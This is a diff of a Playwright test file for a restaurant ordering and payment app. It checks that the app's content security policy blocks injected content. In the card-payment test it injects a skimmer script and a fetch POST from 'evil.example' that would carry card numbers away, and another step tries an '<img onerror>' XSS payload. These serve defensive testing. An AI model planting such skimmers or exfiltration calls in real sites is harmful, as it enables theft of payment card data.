@@ -1,10 +1,9 @@
 import { atBill } from '../scenarios/bills.ts';
 import { BILL_HEADINGS } from '../pages/bill-result.ts';
+import { HEADINGS } from '../pages/result-page.ts';
 import type { Page, Response } from '@playwright/test';
-import { brandWithContent } from '../scenarios/brands.ts';
 import { CARDS } from '../scenarios/cards.ts';
-import { ARMS, atFood, goToPay, OLIVES, readyToPay, withOlives } from '../scenarios/ordering.ts';
-import { readyForWallet } from '../scenarios/wallets.ts';
+import { ARMS, atFood, goToPay, OLIVES, readyToPay } from '../scenarios/ordering.ts';
 import { expect, SMOKE, test } from '../test.ts';
 
 /** Documents that the page has loaded, by path, each with its policy. */
@@ -20,63 +19,79 @@ function documentsOf(page: Page): { readonly path: string; readonly policy: stri
 
 const PROVIDERS = /braintree|paypal|cardinal|google/;
 
-test('the basket is a document of its own, and so is the menu after it', async ({ guest, page }) => {
+test('the basket and a bill are documents of their own, and what lies around them is refused what they may (WC10)', async ({
+  guest,
+  page,
+  watch,
+}) => {
   const documents = documentsOf(page);
+  const paths = (): readonly string[] => documents.map(({ path }) => path);
   await atFood(guest);
   await guest.menu.quickAdd(OLIVES.title).tap();
   await guest.menu.goToBasket();
   await guest.isAt('Your basket');
-  await goToPay(guest);
-  await guest.follow('Back');
-  await guest.isAt('Your basket');
-  await guest.follow('Back');
-  await guest.isAt('Food');
-  await expect(guest.menu.basketBar).toHaveAccessibleName(/1 item/);
-  expect(documents.map(({ path }) => path)).toEqual([ARMS.table, ARMS.basket, ARMS.food]);
-  const [first, basket, menu] = documents.map(({ policy }) => policy);
-  expect(first).not.toMatch(PROVIDERS);
-  expect(first).toContain("require-trusted-types-for 'script'");
-  expect(basket).toMatch(PROVIDERS);
-  expect(menu).toBe(first);
-});
 
-test('a bill is a document of its own; its table is chosen in it, and its venue is not', async ({
-  guest,
-  page,
-}) => {
-  const documents = documentsOf(page);
-  await guest.open(ARMS.venue);
-  await guest.follow(/^Pay My Bill/);
-  await guest.table.number.fill('2');
-  await guest.press('Find my bill');
-  await guest.isAt('Your bill');
-  expect(documents.map(({ path }) => path)).toEqual([ARMS.venue, `${ARMS.venue}/pay`]);
-  await guest.follow('Back');
-  await guest.follow('Back');
-  await guest.isAt('The Foxglove Arms');
-  expect(documents.map(({ policy }) => PROVIDERS.test(policy))).toEqual([false, true, false]);
-});
-
-test('a page that the basket asks its guest to is no new document, and the way back from its reload is', async ({
-  guest,
-  page,
-}) => {
-  await withOlives(guest);
-  const documents = documentsOf(page);
-  await page.evaluate(() => {
-    history.pushState(null, '', '/terms');
+  await test.step('a page that the basket asks its guest to is no new document, and the way back from its reload is', async () => {
+    await guest.goOnTo('/terms');
+    await guest.isAt('Terms');
+    expect(paths()).toEqual([ARMS.table, ARMS.basket]);
+    await guest.reload();
+    await guest.isAt('Terms');
+    await page.goBack();
+    await guest.isAt('Your basket');
+    expect(paths().slice(2)).toEqual(['/terms', ARMS.basket]);
+    await goToPay(guest);
+    await guest.pay.fillDetails();
+    await guest.pay.fillCard(CARDS.approved);
+    await expect(guest.pay.pay).toBeEnabled();
   });
-  await guest.isAt('Terms');
-  expect(documents).toEqual([]);
-  await guest.reload();
-  await guest.isAt('Terms');
-  await page.goBack();
-  await guest.isAt('Your basket');
-  expect(documents.map(({ path }) => path)).toEqual(['/terms', ARMS.basket]);
-  await goToPay(guest);
-  await guest.pay.fillDetails();
-  await guest.pay.fillCard(CARDS.approved);
-  await expect(guest.pay.pay).toBeEnabled();
+
+  await test.step('the menu after the basket is a document again', async () => {
+    await guest.follow('Back');
+    await guest.isAt('Your basket');
+    await guest.follow('Back');
+    await guest.isAt('Food');
+    await expect(guest.menu.basketBar).toHaveAccessibleName(/1 item/);
+    expect(paths().slice(4)).toEqual([ARMS.food]);
+    const [first, basket] = documents.map(({ policy }) => policy);
+    expect(first).not.toMatch(PROVIDERS);
+    expect(first).toContain("require-trusted-types-for 'script'");
+    expect(basket).toMatch(PROVIDERS);
+    expect(documents.at(-1)?.policy).toBe(first);
+  });
+
+  await test.step('a bill’s table is chosen in its document, and its venue is not', async () => {
+    documents.splice(0);
+    await guest.goOnTo(ARMS.venue);
+    await guest.follow(/^Pay My Bill/);
+    await guest.table.number.fill('2');
+    await guest.press('Find my bill');
+    await guest.isAt('Your bill');
+    expect(paths()).toEqual([`${ARMS.venue}/pay`]);
+    await guest.follow('Back');
+    await guest.follow('Back');
+    await guest.isAt('The Foxglove Arms');
+    expect(documents.map(({ policy }) => PROVIDERS.test(policy))).toEqual([true, false]);
+  });
+
+  await test.step('a style that is not the app’s own, and text that would become code, are refused', async () => {
+    const refused = await page.evaluate(() => {
+      const style = document.createElement('style');
+      style.textContent = 'main { display: none }';
+      document.head.append(style);
+      try {
+        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>');
+        return false;
+      } catch {
+        return true;
+      }
+    });
+    expect(refused).toBe(true);
+    await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining('style-src-elem inline'));
+    await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining('require-trusted-types-for'));
+    await expect(guest.heading).toBeVisible();
+    watch.provokes(...watch.seen);
+  });
 });
 
 test('the menu is shown where it was left: by the way back, and by its own link', async ({ guest, page }) => {
@@ -148,79 +163,55 @@ test('a long bill is shown where it was left, by back and by the arrow from its 
 });
 
 test(
-  'H39: a script of somebody else’s is refused on the page that takes cards',
+  'a script of somebody else’s on the page that takes cards neither runs nor is fetched (attack H39), and the page of the card’s own bank is shown, wherever that bank is',
   { tag: SMOKE },
-  async ({ guest, page, watch }) => {
-    await readyToPay(guest);
-    await page.evaluate(() => {
-      const script = document.createElement('script');
-      script.src = 'https://evil.example/card-reader.js';
-      document.head.append(script);
+  async ({ guest, page, sandbox, watch }) => {
+    const blocked: string[] = [];
+    page.on('requestfailed', (request) => {
+      if (request.failure()?.errorText === 'csp') blocked.push(request.url());
     });
-    await expect
-      .poll(() => watch.seen)
-      .toContainEqual(expect.stringContaining('script-src-elem https://evil.example'));
-    watch.provokes(...watch.seen);
+    await page.route('https://acs.bank.example/**', (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<h1>Asked by ${route.request().method()}</h1>` }),
+    );
+    await readyToPay(guest);
+
+    await test.step('a script by its address, one in the page, and a call that would carry cards away', async () => {
+      await page.evaluate(() => {
+        const skimmer = document.createElement('script');
+        skimmer.src = 'https://evil.example/card-reader.js';
+        const inline = document.createElement('script');
+        inline.textContent = 'window.stolen = true';
+        document.head.append(skimmer, inline);
+        void fetch('https://evil.example/cards', { method: 'POST', body: 'numbers' }).catch(() => undefined);
+      });
+      for (const refused of [
+        'script-src-elem https://evil.example',
+        'script-src-elem inline',
+        'connect-src https://evil.example',
+      ])
+        await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining(refused));
+      expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();
+      expect(blocked).toContain('https://evil.example/card-reader.js');
+      watch.provokes(...watch.seen);
+    });
+
+    await test.step('the page of the card’s own bank is asked for by a form', async () => {
+      // As 3-D Secure 2 goes about it, from this page.
+      await page.evaluate(() => {
+        const frame = document.createElement('iframe');
+        frame.name = 'bank';
+        frame.title = 'Bank';
+        const form = document.createElement('form');
+        Object.assign(form, { method: 'post', action: 'https://acs.bank.example/challenge', target: 'bank' });
+        document.body.append(frame, form);
+        form.submit();
+      });
+      const bank = page.frameLocator('iframe[name=bank]');
+      await expect(bank.getByRole('heading', { name: 'Asked by POST' })).toBeVisible();
+    });
+
+    await guest.pay.pay.tap();
+    await guest.isAt(HEADINGS.success);
+    expect(sandbox.captures).toEqual([OLIVES.price]);
   },
 );
-
-test('the page of the card’s own bank is asked for by a form and shown, wherever that bank is', async ({
-  guest,
-  page,
-}) => {
-  await page.route('https://acs.bank.example/**', (route) =>
-    route.fulfill({ contentType: 'text/html', body: `<h1>Asked by ${route.request().method()}</h1>` }),
-  );
-  await readyToPay(guest);
-  // As 3-D Secure 2 goes about it, from this page.
-  await page.evaluate(() => {
-    const frame = document.createElement('iframe');
-    frame.name = 'bank';
-    frame.title = 'Bank';
-    const form = document.createElement('form');
-    Object.assign(form, { method: 'post', action: 'https://acs.bank.example/challenge', target: 'bank' });
-    document.body.append(frame, form);
-    form.submit();
-  });
-  const bank = page.frameLocator('iframe[name=bank]');
-  await expect(bank.getByRole('heading', { name: 'Asked by POST' })).toBeVisible();
-});
-
-test.describe('corners rounder than a vendor draws', () => {
-  test.use({ brand: brandWithContent('theme', { cornerRadius: 28 }) });
-  test('WC10: the wallets’ buttons have the looks that their scripts bring, and the brand’s corners', async ({
-    guest,
-  }) => {
-    await readyForWallet(guest, 'PayPal');
-    const [google, paypal] = [guest.wallets.button('Google Pay'), guest.wallets.button('PayPal')];
-    // Half of the button's height: vendors draw no rounder.
-    await expect(google).toHaveCSS('background-color', 'rgb(31, 31, 31)');
-    await expect(google).toHaveCSS('border-top-left-radius', '24px');
-    await expect(paypal).toHaveCSS('background-color', 'rgb(255, 196, 57)');
-    await expect(paypal).toHaveCSS('border-top-left-radius', '24px');
-  });
-});
-
-test('a style that is not the app’s own, and text that would become code, are refused on a menu', async ({
-  guest,
-  page,
-  watch,
-}) => {
-  await atFood(guest);
-  const refused = await page.evaluate(() => {
-    const style = document.createElement('style');
-    style.textContent = 'main { display: none }';
-    document.head.append(style);
-    try {
-      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>');
-      return false;
-    } catch {
-      return true;
-    }
-  });
-  expect(refused).toBe(true);
-  await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining('style-src-elem inline'));
-  await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining('require-trusted-types-for'));
-  await expect(guest.menu.search).toBeVisible();
-  watch.provokes(...watch.seen);
-});
